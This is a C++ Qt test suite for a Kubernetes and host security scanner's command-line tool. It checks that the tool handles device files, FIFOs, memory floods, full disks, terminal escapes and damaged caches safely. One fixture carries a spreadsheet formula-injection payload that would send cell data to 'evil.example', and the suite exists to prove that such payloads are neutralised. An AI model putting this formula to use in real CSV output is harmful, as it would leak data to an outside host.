// Hostile files and damaged caches through the CLI, run as a real process (issue 22): special files where a
// report or a config is expected, floods, terminal escapes, formulas, full disks, damaged and read-only caches.
#include <QDir>
#include <QFile>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

#include "testsupport.h"

#include <nlohmann/json.hpp>

#include <sys/stat.h>
#include <unistd.h>

using nlohmann::json;

class TestHostile : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void specialFilesAreRefused_data();
    void specialFilesAreRefused();
    void specialFilesInAFolderAreSkipped();
    void lynisFloodStaysSmall();
    void reportsOnAFullDiskFail_data();
    void reportsOnAFullDiskFail();
    void csvCellsAreNeverFormulas();
    void terminalEscapesArePrintedAsText();
    void outOfRangeNumbersAreExplained();
    void cacheTroubleSaysWhatToDo_data();
    void cacheTroubleSaysWhatToDo();
    void readOnlyCacheIsNamed();
    void readCommandsCreateNothing();
    void usageErrors_data();
    void usageErrors();

private:
    struct Run {
        int code = -1;
        QByteArray out, err;
    };
    Run lg(const QStringList& args, const QString& shellPrefix = {});
    QString write(const QString& name, const QByteArray& content);
    QString scannedCache(const QString& name);

    QTemporaryDir m_dir;
    QString m_manifests;
};

namespace {
#if defined(__SANITIZE_ADDRESS__)
constexpr bool kSanitized = true;
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
constexpr bool kSanitized = true;
#else
constexpr bool kSanitized = false;
#endif
#else
constexpr bool kSanitized = false;
#endif

/**
 * A memory cap for the child, so that reading a device fails fast instead of exhausting the machine.
 * AddressSanitizer reserves terabytes of address space and cannot run under one.
 */
QString memoryCap()
{
    return kSanitized ? QStringLiteral(":") : QStringLiteral("ulimit -v 4000000");
}

const QByteArray kPrivileged = R"(apiVersion: v1
kind: Pod
metadata: {name: risky, namespace: shop}
spec:
  containers:
    - name: app
      image: app:1.0
      securityContext: {privileged: true}
)";
} // namespace

TestHostile::Run TestHostile::lg(const QStringList& args, const QString& shellPrefix)
{
    QProcess p;
    auto env = QProcessEnvironment::systemEnvironment();
    env.remove(QStringLiteral("LAYERGUARD_DB"));
    p.setProcessEnvironment(env);
    if (shellPrefix.isEmpty()) {
        p.start(QStringLiteral(LG_BINARY), args);
    } else { // limits set by the shell, then replaced by the binary: "$0" "$@" keeps every argument intact
        p.start(QStringLiteral("bash"),
            QStringList {
                QStringLiteral("-c"), shellPrefix + QStringLiteral("; exec \"$0\" \"$@\""), QStringLiteral(LG_BINARY) }
                + args);
    }
    if (!p.waitForFinished(60'000)) {
        p.kill();
        p.waitForFinished();
        return { -2, p.readAllStandardOutput(), "timed out: " + p.readAllStandardError() };
    }
    return { p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1, p.readAllStandardOutput(),
        p.readAllStandardError() };
}

QString TestHostile::write(const QString& name, const QByteArray& content)
{
    const QString path = m_dir.filePath(name);
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile f(path);
    if (!f.open(QIODevice::WriteOnly))
        qFatal("cannot write %s", qPrintable(path));
    f.write(content);
    return path;
}

/** A cache with one scan of a privileged pod. */
QString TestHostile::scannedCache(const QString& name)
{
    const QString db = m_dir.filePath(name);
    QFile::remove(db);
    const auto r = lg({ QStringLiteral("scan"), QStringLiteral("--manifests"), m_manifests, QStringLiteral("--db"), db,
        QStringLiteral("--quiet") });
    if (r.code != 0)
        qFatal("scan failed: %s", r.err.constData());
    return db;
}

void TestHostile::initTestCase()
{
    QVERIFY(m_dir.isValid());
    m_manifests = QFileInfo(write(QStringLiteral("manifests/pod.yaml"), kPrivileged)).absolutePath();
}

// Each path names a device: the old code read /dev/zero until std::bad_alloc aborted the process.
void TestHostile::specialFilesAreRefused_data()
{
    QTest::addColumn<QStringList>("args");
    const QString zero = QStringLiteral("/dev/zero");
    QTest::newRow("kubeconfig") << QStringList { QStringLiteral("scan"), QStringLiteral("--kubeconfig"), zero };
    QTest::newRow("policy") << QStringList { QStringLiteral("scan"), QStringLiteral("--manifests"), QString(),
        QStringLiteral("--policy"), zero };
    QTest::newRow("import") << QStringList { QStringLiteral("import"), zero };
    QTest::newRow("vuln-report") << QStringList { QStringLiteral("scan"), QStringLiteral("--manifests"), QString(),
        QStringLiteral("--vuln-report"), zero };
    QTest::newRow("manifests file") << QStringList { QStringLiteral("scan"), QStringLiteral("--manifests"), zero };
}

void TestHostile::specialFilesAreRefused()
{
    QFETCH(QStringList, args);
    for (auto& a : args)
        if (a.isEmpty())
            a = m_manifests;
    const QString db = m_dir.filePath(QStringLiteral("special.sqlite"));
    // Memory is capped so that reading the device would fail fast rather than exhaust the machine.
    const auto r = lg(args + QStringList { QStringLiteral("--db"), db }, memoryCap());
    QVERIFY2(
        r.code == 1 || r.code == 2, qPrintable(QString::number(r.code) + QLatin1Char(' ') + QString::fromUtf8(r.err)));
    QVERIFY2(r.err.contains("/dev/zero is a device, not a regular file"), r.err.constData());
    QVERIFY2(!r.err.contains("bad_alloc"), r.err.constData());
}

// A link to /dev/zero and a FIFO among the manifests are skipped (and said so); the real manifest is scanned.
void TestHostile::specialFilesInAFolderAreSkipped()
{
    const QString dir = m_dir.filePath(QStringLiteral("mixed"));
    QDir().mkpath(dir);
    QFile::remove(dir + QStringLiteral("/zero.yaml"));
    QVERIFY(QFile::link(QStringLiteral("/dev/zero"), dir + QStringLiteral("/zero.yaml")));
    QVERIFY(::mkfifo(QFile::encodeName(dir + QStringLiteral("/fifo.yaml")).constData(), 0600) == 0);
    write(QStringLiteral("mixed/pod.yaml"), kPrivileged);
    const auto r = lg({ QStringLiteral("scan"), QStringLiteral("--manifests"), dir, QStringLiteral("--db"),
                          m_dir.filePath(QStringLiteral("mixed.sqlite")) },
        memoryCap());
    QVERIFY2(r.code == 0, r.err.constData());
    QVERIFY2(r.err.contains("skipped 2 files that are not regular"), r.err.constData());
    const auto f
        = lg({ QStringLiteral("findings"), QStringLiteral("--db"), m_dir.filePath(QStringLiteral("mixed.sqlite")) });
    QVERIFY2(f.out.contains("LG-PSS-PRIVILEGED"), f.out.constData());
    // The same with an import folder: the link and the pipe are not reports.
    const auto i
        = lg({ QStringLiteral("import"), dir, QStringLiteral("--db"), m_dir.filePath(QStringLiteral("i.sqlite")) },
            memoryCap());
    QCOMPARE(i.code, 1); // no report in the folder; nothing was read from the device
    QVERIFY2(i.err.contains("no report"), i.err.constData());
}

// 600,000 test ids in 5 MB once took 3.5 GB: the importer refuses the flood in memory near the file's size.
void TestHostile::lynisFloodStaysSmall()
{
    QByteArray body = "# Lynis Report\nlynis_version=3.0.8\nhostname=flood\nreport_datetime_end=2026-12-01 "
                      "10:00:00\ntests_executed=";
    for (int i = 0; i < 600'000; ++i)
        body += "T" + QByteArray::number(i) + "|";
    body += "\nfinish=true\n";
    QVERIFY(body.size() > 4'000'000);
    const QString file = write(QStringLiteral("flood/lynis-report.dat"), body);
    // The peak resident size of the child, as the kernel counted it: exit code, peak KiB, stderr.
    const auto peak = [](const QStringList& args) {
        QProcess p;
        p.start(QStringLiteral("python3"),
            QStringList { QStringLiteral("-c"),
                QStringLiteral("import resource,subprocess,sys\n"
                               "r=subprocess.run(sys.argv[1:],capture_output=True)\n"
                               "sys.stderr.buffer.write(r.stderr)\n"
                               "print(r.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"),
                QStringLiteral(LG_BINARY) }
                + args);
        p.waitForFinished(60'000);
        const QList<QByteArray> out = p.readAllStandardOutput().trimmed().split(' ');
        return std::make_tuple(out.value(0).toInt(), out.value(1).toLongLong(), p.readAllStandardError());
    };
    // What the process costs doing nothing: under AddressSanitizer several times more (its shadow, every
    // instrumented global), so the flood is measured on top of it.
    const auto [idleCode, idleKiB, idleErr] = peak({ QStringLiteral("--version") });
    QCOMPARE(idleCode, 0);
    const auto [code, peakKiB, err] = peak(
        { QStringLiteral("import"), file, QStringLiteral("--db"), m_dir.filePath(QStringLiteral("flood.sqlite")) });
    QCOMPARE(code, 1);
    QVERIFY2(err.contains("Lynis runs a few hundred"), err.constData());
    qInfo("peak memory importing a 5 MB Lynis flood: %lld MiB, %lld MiB more than the idle process", peakKiB / 1024,
        (peakKiB - idleKiB) / 1024);
    // The flood once added 3.5 GB.
    QVERIFY2(peakKiB - idleKiB < 300 * 1024,
        qPrintable(QString::number((peakKiB - idleKiB) / 1024) + QStringLiteral(" MiB more than idle")));
}

void TestHostile::reportsOnAFullDiskFail_data()
{
    QTest::addColumn<QString>("format");
    QTest::newRow("pdf") << QStringLiteral("pdf");
    QTest::newRow("json") << QStringLiteral("json");
    QTest::newRow("csv") << QStringLiteral("csv");
    QTest::newRow("sarif") << QStringLiteral("sarif");
}

// The file size limit plays a full disk: writes past 8 KiB fail. The report must fail and leave no file.
void TestHostile::reportsOnAFullDiskFail()
{
    QFETCH(QString, format);
    const QString db = scannedCache(QStringLiteral("full-") + format + QStringLiteral(".sqlite"));
    const QString out = m_dir.filePath(QStringLiteral("full/report.") + format);
    QDir().mkpath(QFileInfo(out).absolutePath());
    QFile::remove(out);
    const auto r = lg({ QStringLiteral("report"), QStringLiteral("--format"), format, QStringLiteral("-o"), out,
                          QStringLiteral("--db"), db },
        QStringLiteral("ulimit -f 8; trap '' XFSZ"));
    QVERIFY2(r.code == 1, qPrintable(QString::number(r.code) + QLatin1Char(' ') + QString::fromUtf8(r.err)));
    QVERIFY2(r.err.contains("could not") || r.err.contains("cannot"), r.err.constData());
    QVERIFY2(!QFile::exists(out), "a truncated report was left behind");
    // A pipe (or a device) is written in place, not replaced by a file renamed over it; the reader gets it whole.
    const QString fifo = m_dir.filePath(QStringLiteral("full/pipe.") + format);
    QFile::remove(fifo);
    QVERIFY(::mkfifo(QFile::encodeName(fifo).constData(), 0600) == 0);
    QProcess reader;
    reader.start(QStringLiteral("cat"), { fifo });
    QVERIFY(reader.waitForStarted());
    const auto piped = lg({ QStringLiteral("report"), QStringLiteral("--format"), format, QStringLiteral("-o"), fifo,
        QStringLiteral("--db"), db });
    QVERIFY2(piped.code == 0, piped.err.constData());
    QVERIFY(reader.waitForFinished(30'000));
    const QByteArray got = reader.readAllStandardOutput();
    QVERIFY2(format == QLatin1String("pdf") ? got.startsWith("%PDF") && got.trimmed().endsWith("%%EOF")
                                            : got.contains("LG-PSS-PRIVILEGED"),
        got.left(200).constData());
    struct stat st { };
    QVERIFY(::stat(QFile::encodeName(fifo).constData(), &st) == 0 && S_ISFIFO(st.st_mode));
}

// A text from an imported report that starts with = + - @ would run as a formula in a spreadsheet.
void TestHostile::csvCellsAreNeverFormulas()
{
    const QString file = write(QStringLiteral("formula/lynis-report.dat"),
        "# Lynis Report\nlynis_version=3.0.8\nhostname=sheet\nreport_datetime_end=2026-12-01 10:00:00\n"
        "tests_executed=SSH-7408|AUTH-9230|\n"
        "warning[]=SSH-7408|=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")|-|-|\n"
        "suggestion[]=AUTH-9230|@SUM(1+1)|-|-|\nfinish=true\n");
    const QString db = m_dir.filePath(QStringLiteral("formula.sqlite"));
    auto r = lg({ QStringLiteral("import"), file, QStringLiteral("--db"), db });
    QVERIFY2(r.code == 0, r.err.constData());
    const QString csv = m_dir.filePath(QStringLiteral("formula/out.csv"));
    r = lg({ QStringLiteral("report"), QStringLiteral("--format"), QStringLiteral("csv"), QStringLiteral("-o"), csv,
        QStringLiteral("--db"), db });
    QVERIFY2(r.code == 0, r.err.constData());
    QFile f(csv);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QByteArray text = f.readAll();
    QVERIFY2(text.contains("HYPERLINK") && text.contains("@SUM"), text.constData());
    // Every cell, quoted or not, starts with something other than a formula trigger.
    static const QRegularExpression formulaCell(
        QStringLiteral("(^|,)\"?[=+@\\t\\r-]"), QRegularExpression::MultilineOption);
    const auto m = formulaCell.match(QString::fromUtf8(text));
    QVERIFY2(!m.hasMatch(), qPrintable(m.captured(0) + QStringLiteral(" in ") + QString::fromUtf8(text)));
}

// ESC sequences in imported texts would retitle the terminal or erase lines when printed.
void TestHostile::terminalEscapesArePrintedAsText()
{
    const QString db = m_dir.filePath(QStringLiteral("escapes.sqlite"));
    const auto imported = lg({ QStringLiteral("import"),
        QStringLiteral(LG_TEST_DATA "/hostile/lynis-terminal-escapes.dat"), QStringLiteral("--db"), db });
    QVERIFY2(imported.code == 0, imported.err.constData());
    QVERIFY2(!imported.out.contains('\x1b') && !imported.err.contains('\x1b'), imported.err.constData());
    for (const char* format : { "table", "csv" }) {
        const auto r = lg({ QStringLiteral("findings"), QStringLiteral("--format"), QLatin1String(format),
            QStringLiteral("--db"), db });
        QVERIFY2(r.code == 0, r.err.constData());
        QVERIFY2(r.out.contains("pwned"), r.out.constData());
        QVERIFY2(!r.out.contains('\x1b') && !r.out.contains('\x07'), format);
    }
}

void TestHostile::outOfRangeNumbersAreExplained()
{
    const QString file = write(QStringLiteral("numbers/kube-bench.json"),
        R"({"Controls":[{"id":"1","version":"cis-1.8","node_type":"master","tests":[{"section":"1.1","results":[
           {"test_number":"1.1.1","test_desc":"x","status":"PASS","scored":true}]}],"total_pass":1e999}]})");
    const auto r
        = lg({ QStringLiteral("import"), file, QStringLiteral("--db"), m_dir.filePath(QStringLiteral("n.sqlite")) });
    QCOMPARE(r.code, 1);
    QVERIFY2(!r.err.contains("json.exception"), r.err.constData());
    QVERIFY2(r.err.contains("kube-bench.json"), r.err.constData());
}

void TestHostile::cacheTroubleSaysWhatToDo_data()
{
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<QString>("says");
    QTest::newRow("zero bytes") << QByteArray() << QStringLiteral("empty (0 bytes)");
    // A valid header over garbage: SQLite reads the header, then finds the pages damaged.
    QByteArray damaged("SQLite format 3", 16);
    damaged += QByteArray(4080, '\x5a');
    QTest::newRow("damaged pages") << damaged << QStringLiteral("damaged");
    QTest::newRow("not a database") << QByteArray(4096, 'z') << QStringLiteral("damaged");
}

void TestHostile::cacheTroubleSaysWhatToDo()
{
    QFETCH(QByteArray, content);
    QFETCH(QString, says);
    const QString db = write(QStringLiteral("trouble/")
            + QString::fromLatin1(QTest::currentDataTag()).replace(u' ', u'-') + QStringLiteral(".sqlite"),
        content);
    for (const QStringList& cmd :
        { QStringList { QStringLiteral("findings") }, QStringList { QStringLiteral("history") },
            QStringList { QStringLiteral("cache"), QStringLiteral("check") },
            QStringList { QStringLiteral("scan"), QStringLiteral("--manifests"), m_manifests } }) {
        const auto r = lg(cmd + QStringList { QStringLiteral("--db"), db });
        const QString what = cmd.join(u' ') + QStringLiteral(": ") + QString::fromUtf8(r.err);
        QVERIFY2(r.code == 1, qPrintable(what));
        QVERIFY2(r.err.contains(says.toUtf8()), qPrintable(what));
        QVERIFY2(r.err.contains("cache reset"), qPrintable(what));
        QVERIFY2(!r.err.contains("bug"), qPrintable(what));
        QCOMPARE(r.err.trimmed().count('\n'), 0); // one line
        QCOMPARE(QFileInfo(db).size(), qint64(content.size())); // left as it was
    }
}

// A cache the user cannot write is named as such, not as a bug. Root writes anything: the commands run as nobody.
void TestHostile::readOnlyCacheIsNamed()
{
    const QString db = scannedCache(QStringLiteral("readonly/cache.sqlite"));
    QString prefix;
    if (::geteuid() == 0) {
        QVERIFY(QFile::setPermissions(QFileInfo(db).absolutePath(),
            QFileDevice::ReadOwner | QFileDevice::ExeOwner | QFileDevice::ReadOther | QFileDevice::ExeOther));
        QVERIFY(::chmod(QFile::encodeName(m_dir.path()).constData(), 0755) == 0);
        prefix = QStringLiteral("exec setpriv --reuid=65534 --regid=65534 --clear-groups \"$0\" \"$@\"");
    } else {
        QVERIFY(QFile::setPermissions(db, QFileDevice::ReadOwner));
        QVERIFY(QFile::setPermissions(QFileInfo(db).absolutePath(), QFileDevice::ReadOwner | QFileDevice::ExeOwner));
        prefix = QStringLiteral(":");
    }
    for (const char* cmd : { "history", "findings" }) {
        const auto r = lg({ QLatin1String(cmd), QStringLiteral("--db"), db }, prefix);
        QVERIFY2(r.code == 1, qPrintable(QString::number(r.code) + QLatin1Char(' ') + QString::fromUtf8(r.err)));
        QVERIFY2(r.err.contains("cannot be written"), r.err.constData());
        QVERIFY2(!r.err.contains("bug"), r.err.constData());
    }
    QFile::setPermissions(
        QFileInfo(db).absolutePath(), QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
}

// Reading commands never create a cache, nor the folders for one.
void TestHostile::readCommandsCreateNothing()
{
    const QString missing = m_dir.filePath(QStringLiteral("missing/dir/x.sqlite"));
    for (const char* cmd : { "history", "findings", "diff", "report" }) {
        QStringList args { QLatin1String(cmd), QStringLiteral("--db"), missing };
        if (QLatin1String(cmd) == QLatin1String("report"))
            args << QStringLiteral("--format") << QStringLiteral("pdf") << QStringLiteral("-o")
                 << m_dir.filePath(QStringLiteral("never.pdf"));
        const auto r = lg(args);
        QVERIFY2(r.code == 1, qPrintable(QLatin1String(cmd) + QStringLiteral(": ") + QString::fromUtf8(r.err)));
        QVERIFY2(r.err.contains("no cache at"), r.err.constData());
        QVERIFY2(!QFileInfo::exists(m_dir.filePath(QStringLiteral("missing"))), cmd);
    }
}

void TestHostile::usageErrors_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::newRow("findings --scan abc") << QStringList { QStringLiteral("findings"), QStringLiteral("--scan"),
        QStringLiteral("abc") };
    QTest::newRow("accept unknown") << QStringList { QStringLiteral("accept"), QStringLiteral("f-doesnotexist"),
        QStringLiteral("--reason"), QStringLiteral("r") };
    QTest::newRow("revoke unknown") << QStringList { QStringLiteral("revoke"), QStringLiteral("f-doesnotexist") };
}

void TestHostile::usageErrors()
{
    QFETCH(QStringList, args);
    const QString db = scannedCache(QStringLiteral("usage.sqlite"));
    const auto r = lg(args + QStringList { QStringLiteral("--db"), db });
    QVERIFY2(r.code == 2, qPrintable(QString::number(r.code) + QLatin1Char(' ') + QString::fromUtf8(r.err)));
}

QTEST_GUILESS_MAIN(TestHostile)
#include "tst_hostile.moc"
